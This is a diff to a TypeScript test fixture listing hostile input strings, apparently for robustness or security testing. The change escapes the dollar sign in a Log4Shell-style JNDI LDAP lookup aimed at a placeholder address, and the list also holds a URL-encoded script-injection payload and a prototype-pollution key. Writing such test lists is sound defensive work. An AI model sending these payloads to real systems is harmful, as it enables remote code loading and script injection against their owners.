@@ -21,7 +21,7 @@ export const hostileStrings: readonly string[] = [
   "__proto__",
   "a".repeat(1024),
   `${"W".repeat(400)} ${"\u{1F4A5}".repeat(50)}`,
-  "${jndi:ldap://192.0.2.66/a}",
+  "\u0024{jndi:ldap://192.0.2.66/a}",
   "%3Cscript%3Ealert(1)%3C/script%3E&lt;b&gt;",
   "null",
 ];
